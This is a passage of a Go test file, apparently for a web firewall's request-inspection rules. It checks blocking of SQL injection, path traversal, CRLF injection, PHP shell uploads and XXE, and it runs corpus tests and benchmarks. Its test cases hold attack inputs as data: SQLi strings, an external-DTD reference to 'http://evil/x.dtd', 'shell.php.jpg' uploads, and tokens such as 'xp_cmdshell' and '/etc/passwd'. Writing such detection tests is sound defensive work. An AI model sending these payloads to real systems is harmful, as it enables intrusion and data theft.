			{"s-12", "/?p=php%3A%2F%2Ffilter", nil, 403},
			{"s-12", "/?f=%252e%252e%252f", nil, 403},
			{"s-sql-injection", "/?q=1%27%20union%20select%201--", nil, 403},
			{"s-sql-injection", "/?name=sleep(better)", nil, 200},
			{"s-sql-injection", "/?q=1%27%20and%20sleep(5)--", nil, 403},
			{"s-sql-injection", "/", http.Header{"Cookie": {"q=1' union select 1"}}, 403},
			// Deviation: the User-Agent is inspected too.
			{"s-sql-injection", "/", http.Header{"User-Agent": {"q=1' union select 1"}}, 403},
		} {
			got := r.secSend(secReq{site: c.site, target: c.target, header: c.header})
			if got.status != c.status {
				t.Errorf("%s: GET %s %v: got %d, want %d", c.site, c.target, c.header, got.status, c.status)
			}
		}
	})

	t.Run("flag values", func(t *testing.T) {
		for _, target := range []string{"/?q=1%27%20union%20select%201", "/?x=%3Cscript%3E", "/?u=http://localhost/"} {
			if got := r.secSend(secReq{site: "s-truthy", target: target}); got.status != 403 {
				t.Errorf("1/\"true\"/\"1\" flags: %s: got %d", target, got.status)
			}
			if got := r.secSend(secReq{site: "s-falsy", target: target}); got.status != 200 {
				t.Errorf("0/\"yes\"/false flags: %s: got %d", target, got.status)
			}
		}
		if got := r.secSend(secReq{site: "s-falsy", target: "/?f=../../x"}); got.status != 200 {
			t.Errorf("path_traversal \"0\": got %d", got.status)
		}
	})

	t.Run("bodies", func(t *testing.T) {
		multipart := func(filename, ctype string) string {
			return multipartBody(filePart("file", filename, ctype, "hello"))
		}
		for _, c := range []struct {
			name, site, ct, body string
			status               int
		}{
			{"form field", "s-sql-injection", formType, sqliForm, 403},
			{"double-encoded form field", "s-sql-injection", formType, "q=1%2527%2bunion%2bselect%2b1", 403},
			{"clean form", "s-sql-injection", formType, "q=hello+world", 200},
			{"traversal in a form", "s-path-traversal", formType, "f=..%2F..%2Fx", 403},
			{"header injection in a text body", "s-crlf-injection", "text/plain", "a\r\nSet-Cookie: x=1", 403},
			{"line breaks in a text body", "s-crlf-injection", "text/plain", "a\r\nb", 200},
			{"php upload", "s-malicious-upload", "multipart/form-data; boundary=XyZ", multipart("shell.php.jpg", "image/jpeg"), 403},
			{"x-php type", "s-malicious-upload", "Multipart/Form-Data; boundary=XyZ", multipart("a.txt", "application/x-php"), 403},
			{"phar upload", "s-malicious-upload", "multipart/form-data; boundary=XyZ", multipart("x.phar", "application/octet-stream"), 403},
			{".htaccess upload", "s-malicious-upload", "multipart/form-data; boundary=XyZ", multipart(".htaccess", "text/plain"), 403},
			{"clean upload", "s-malicious-upload", "multipart/form-data; boundary=XyZ", multipart("photo.jpg", "image/jpeg"), 200},
			{"upload names outside multipart", "s-malicious-upload", "text/plain", multipart("shell.php.jpg", "image/jpeg"), 200},
			{"xxe in application/xml", "s-xxe", "application/xml", xxeDoc, 403},
			{"xxe in image/svg+xml", "s-xxe", "image/svg+xml", xxeDoc, 403},
			{"external DTD", "s-xxe", "application/xml", `<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil/x.dtd"><r/>`, 403},
			{"xxe url-encoded in a form", "s-xxe", formType, "doc=" + url.QueryEscape(xxeDoc), 403},
			{"xml without entity", "s-xxe", "application/xml", `<?xml version="1.0"?><r>file</r>`, 200},
			{"SQLi in XML text", "s-sql-injection", "application/xml", `<?xml version="1.0"?><q>1' union select 1</q>`, 403},
			{"SQLi in an XML attribute", "s-sql-injection", "application/xml", `<q id="1' or '1'='1"/>`, 403},
			{"clean XML", "s-all", "application/xml", `<?xml version="1.0"?><order id="7"><item>Rock 'n' roll</item></order>`, 200},
			{"SQLi in a JSON text/plain body", "s-sql-injection", "text/plain", `{"q":"1' or 1=1--"}`, 403},
			{"all flags, form", "s-all", formType, sqliForm, 403},
			{"all flags, clean multipart", "s-all", "multipart/form-data; boundary=XyZ", multipart("photo.jpg", "image/jpeg"), 200},
			{"all flags but crlf, php upload", "s-nocrlf", "multipart/form-data; boundary=XyZ", multipart("shell.php.jpg", "image/jpeg"), 403},
		} {
			got := r.secSend(secReq{site: c.site, header: http.Header{"Content-Type": {c.ct}}, body: c.body})
			if got.status != c.status {
				t.Errorf("%s: got %d %q, want %d", c.name, got.status, got.body, c.status)
			}
		}
	})
}

// corpusDir is the shared test corpus (beside the repository).
func corpusDir(t testing.TB) string {
	t.Helper()
	return testsupport.SharedDir(t, "corpus/libinjection")
}

// corpusLines reads the inputs of the files matching glob: one
// URL-encoded input per line, '#' lines and empty lines skipped.
func corpusLines(t testing.TB, glob string) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(corpusDir(t), glob))
	if err != nil || len(files) == 0 {
		t.Fatalf("no corpus files %s: %v", glob, err)
	}
	slices.Sort(files)
	var lines []string
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		for _, l := range strings.Split(string(b), "\n") {
			if l = strings.TrimRight(l, "\r"); l != "" && !strings.HasPrefix(l, "#") {
				lines = append(lines, l)
			}
		}
	}
	return lines
}

// benignDocLines cuts n lines of 8 to 200 bytes, in path order, from the
// text files (gzip ones decompressed) of /usr/share/doc: real prose,
// changelogs and READMEs.
func benignDocLines(t testing.TB, n int) []string {
	t.Helper()
	var lines []string
	root := "/usr/share/doc"
	filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || len(lines) >= n || !d.Type().IsRegular() {
			return nil
		}
		f, err := os.Open(p)
		if err != nil {
			return nil
		}
		defer f.Close()
		var rd io.Reader = f
		if strings.HasSuffix(p, ".gz") {
			zr, err := gzip.NewReader(f)
			if err != nil {
				return nil
			}
			rd = zr
		} else if !strings.Contains(filepath.Base(p), "README") && !strings.HasSuffix(p, ".txt") && !strings.HasSuffix(p, ".md") {
			return nil
		}
		sc := bufio.NewScanner(io.LimitReader(rd, 32<<10))
		for sc.Scan() && len(lines) < n {
			l := strings.TrimSpace(sc.Text())
			if len(l) >= 8 && len(l) <= 200 && !strings.ContainsRune(l, 0) {
				lines = append(lines, l)
			}
		}
		return nil
	})
	if len(lines) < n/2 {
		t.Skipf("only %d lines of text under %s", len(lines), root)
	}
	return lines
}

// hitsOf runs strings through security.hits in a worker: the flag each
// hits ("" for none) as a value of input set set under flags.
func (r *rig) hitsOf(flags []string, set string, encoded bool, strs []string) []string {
	r.t.Helper()
	body, err := json.Marshal(obj{"flags": flags, "set": set, "encoded": encoded, "strings": strs})
	if err != nil {
		r.t.Fatal(err)
	}
	got := send(r.t, otherIP, http.MethodPost, "http://127.0.0.1/hits", "tools.test", nil, bytes.NewReader(body))
	var hits []string
	if err := json.Unmarshal([]byte(got.body), &hits); err != nil || len(hits) != len(strs) {
		r.t.Fatalf("/hits: %d %.300q: %v", got.status, got.body, err)
	}
	return hits
}

// TestSecurityTokenSoup runs random strings of SQL, shell and markup
// tokens through every detector in every place: none may raise a Lua
// error, which fails the request closed (a backtick-quoted name after
// EXEC did: "exec `x`" in a comment form was refused as a runtime error).
func TestSecurityTokenSoup(t *testing.T) {
	r := startSecurityRig(t)
	parts := []string{"'", `"`, "`", "(", ")", ",", ";", " ", "=", "<", ">", "!", "-", "--", "#", "/*", "*/", "/*!",
		".", "..", `\`, "@", "@@", "0x1", "1", "1e5", ".5", "union", "select", "from", "where", "or", "and", "not",
		"like", "in", "is", "sleep", "benchmark", "version", "user", "exec", "xp_cmdshell", "drop", "table", "insert",
		"into", "values", "if", "case", "when", "then", "end", "match", "a", "x", "|", "&", "||", "&&", "$", "{", "}",
		"${", "<script>", "<a ", "onerror=", "javascript:", "alert(1)", "&#", "id", "cat", "/etc/passwd", "$(id)",
		`\n`, "\n", "\t", "%27", "%", "+", ":", "?", "*", "/", "://", `\u0027`, "<?php", "{{", "\x00"}
	rng := mrand.New(mrand.NewPCG(1, 2))
	soup := []string{"exec `x`", "run exec `make test` first"}
	for len(soup) < 20000 {
		var b strings.Builder
		for range 1 + rng.IntN(40) {
			b.WriteString(parts[rng.IntN(len(parts))])
		}
		soup = append(soup, b.String())
	}
	for _, set := range []string{"PATH", "QUERY", "HDR", "UA", "BODY"} {
		hits := r.hitsOf(securityFlags, set, false, soup)
		if set == "QUERY" && (hits[0] != "" || hits[1] != "") {
			t.Errorf("QUERY: %q: %q, %q: %q; want both clean", soup[0], hits[0], soup[1], hits[1])
		}
	}
}

// TestSecurityCorpus measures the detectors on libinjection's public
// samples and on benign text, with floors and ceilings at what they
// reach, so that a regression fails.
func TestSecurityCorpus(t *testing.T) {
	r := startSecurityRig(t)
	rate := func(hits []string) float64 {
		n := 0
		for _, h := range hits {
			if h != "" {
				n++
			}
		}
		return float64(n) / float64(len(hits))
	}
	show := func(what string, strs, hits []string, want bool) {
		n := 0
		for i, h := range hits {
			if (h != "") != want && n < 10 {
				n++
				t.Logf("%s: %q (%s)", what, strs[i], h)
			}
		}
	}
	all := slices.Clone(securityFlags)
	for _, c := range []struct {
		name, glob string
		flags      []string
		min        float64
	}{
		{"SQLi, sql_injection alone", "sqli-*.txt", []string{"sql_injection"}, 0.998},
		{"SQLi, all flags", "sqli-*.txt", all, 0.998},
		{"XSS, xss alone", "xss-*.txt", []string{"xss"}, 0.995},
		{"XSS, all flags", "xss-*.txt", all, 0.995},
	} {
		lines := corpusLines(t, c.glob)
		hits := r.hitsOf(c.flags, "QUERY", true, lines)
		got := rate(hits)
		t.Logf("%s: %.2f%% of %d samples refused", c.name, 100*got, len(lines))
		if got < c.min {
			show(c.name+" missed", lines, hits, true)
			t.Errorf("%s: %.2f%% refused, want at least %.1f%%", c.name, 100*got, 100*c.min)
		}
	}
	for _, c := range []struct {
		name    string
		strs    []string
		encoded bool
		set     string
		flags   []string
		max     float64
	}{
		{"libinjection false positives, sql_injection alone", corpusLines(t, "false_positives.txt"), true, "QUERY", []string{"sql_injection"}, 0.012},
		{"libinjection false positives, all flags", corpusLines(t, "false_positives.txt"), true, "QUERY", all, 0.012},
		{"/usr/share/doc lines as form values, all flags", benignDocLines(t, 20000), false, "BODY", all, 0.0018},
		{"/usr/share/doc lines as query values, all flags", benignDocLines(t, 20000), false, "QUERY", all, 0.0018},
	} {
		hits := r.hitsOf(c.flags, c.set, c.encoded, c.strs)
		got := rate(hits)
		t.Logf("%s: %.3f%% of %d refused", c.name, 100*got, len(c.strs))
		if got > c.max {
			show(c.name+" refused", c.strs, hits, false)
			t.Errorf("%s: %.3f%% refused, want at most %.2f%%", c.name, 100*got, 100*c.max)
		}
	}
}

// cpuOf runs security.verdict with all nine flags on request q (sent to
// tools.test) n times inside a worker: its CPU per check in µs, and the
// verdict ("nil" when clean).
func (r *rig) cpuOf(q secReq, n int) (float64, string) {
	r.t.Helper()
	q.site = "tools"
	target := fmt.Sprintf("/cpu?n=%d", n)
	if query, ok := strings.CutPrefix(q.target, "/?"); ok {
		target += "&" + query
	}
	q.target = target
	got := r.secSend(q)
	var us float64
	var verdict string
	if _, err := fmt.Sscan(got.body, &us, &verdict); err != nil || got.status != 200 {
		r.t.Fatalf("/cpu: %d %q: %v", got.status, got.body, err)
	}
	return us, verdict
}

// securityBenchInputs are requests at nginx's default limits (an 8 KiB
// request line, header lines of up to 8 KiB in 32 KiB), clean and
// hostile, and bodies at the 64 KiB inspection limit.
func securityBenchInputs() []struct {
	name string
	req  secReq
} {
	type in = struct {
		name string
		req  secReq
	}
	const line = 7800 // of an 8 KiB request line or header line
	browser := http.Header{
		"User-Agent":      {uaChrome},
		"Accept":          {"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		"Accept-Language": {"en-GB,en;q=0.9"},
		"Cookie":          {"_ga=GA1.2.1234567890.1234567890; session=0123456789abcdef0123456789abcdef; theme=dark; consent=yes"},
		"Referer":         {"https://www.example.com/search?q=running+shoes&page=2"},
	}
	inputs := []in{
		{"clean browser request", secReq{target: "/?q=running+shoes&page=2&sort=price", header: browser}},
		{"clean 4 KiB query", secReq{target: "/?" + cleanQuery4K(), header: browser}},
		{"1,000 arguments", secReq{target: "/?" + queryArgs(1000), header: browser}},
	}
	runs := []struct{ name, unit string }{
		{"spaces", " "}, {"percents", "%25"}, {"backslashes", `\`}, {"quotes", "'"}, {"parentheses", "("},
		{"angle brackets", "<"}, {"a=", "a="}, {"dots", ".."}, {"on", "on"}, {"semicolons", ";"},
		{"union", "union "}, {"dashes", "--"},
	}
	for _, run := range runs {
		unit := run.unit
		enc := url.QueryEscape(unit)
		if unit == "%25" {
			enc = unit
		}
		val := strings.Repeat(unit, line/len(unit))
		h := http.Header{
			"User-Agent": {val},
			"Cookie":     {"c=" + val},
			"Referer":    {"http://x.example/?r=" + strings.Repeat(enc, (line-24)/len(enc))},
		}
		inputs = append(inputs, in{"max URI and headers of " + run.name,
			secReq{target: "/?x=" + strings.Repeat(enc, line/len(enc)), header: h}})
	}
	const body = 64 << 10
	json := http.Header{"Content-Type": {"application/json"}}
	xml := http.Header{"Content-Type": {"application/xml"}}
	inputs = append(inputs,
		in{"64 KiB nested JSON arrays", secReq{header: json, body: strings.Repeat("[", body/2) + strings.Repeat("]", body/2)}},
		in{"64 KiB nested JSON objects", secReq{header: json, body: strings.Repeat(`{"a":`, body/6) + "1" + strings.Repeat("}", body/6)}},
		in{"64 KiB of JSON strings", secReq{header: json, body: "[" + strings.Repeat(`"",`, body/3-1) + `""]`}},
		in{"64 KiB nested XML", secReq{header: xml, body: strings.Repeat("<a>", body/7) + strings.Repeat("</a>", body/7)}},
		in{"64 KiB form of quotes", secReq{header: formHeader(), body: "q=" + strings.Repeat("%27", body/3)}},
		in{"64 KiB form of 1,000 fields", secReq{header: formHeader(), body: strings.Repeat("k=v+w%27x&", 999) + "k=" + strings.Repeat("y", body-10*999-2)}},
		in{"64 KiB multipart", secReq{header: multipartHeader, body: multipartBody(fieldPart("a", strings.Repeat("x\r\n", body/4)), filePart("f", "a.jpg", "image/jpeg", strings.Repeat("\xff\r\n", body/4)))}},
	)
	return inputs
}

func cleanQuery4K() string {
	var b strings.Builder
	for i := 0; b.Len() < 4096-64; i++ {
		if i > 0 {
			b.WriteByte('&')
		}
		fmt.Fprintf(&b, "k%02d=hello+world%%2C+item+%d+of+the+list%%3A+value_%d", i, i, i*7)
	}
	return b.String()
}

// BenchmarkSecurityCheck reports the worker CPU a security_check node
// with all nine flags spends per request (timed inside the worker, best
// of three loops), on clean and hostile requests at nginx's default
// limits and on bodies at the inspection limit.
func BenchmarkSecurityCheck(b *testing.B) {
	r := startSecurityRig(b)
	for _, in := range securityBenchInputs() {
		b.Run(strings.ReplaceAll(in.name, " ", "_"), func(b *testing.B) {
			best := 0.0
			for i := 0; i < b.N; i++ {
				us, _ := r.cpuOf(in.req, 50)
				if i == 0 || us < best {
					best = us
				}
			}
			b.ReportMetric(best, "cpu-µs/check")
			b.ReportMetric(0, "ns/op")
		})
	}
}
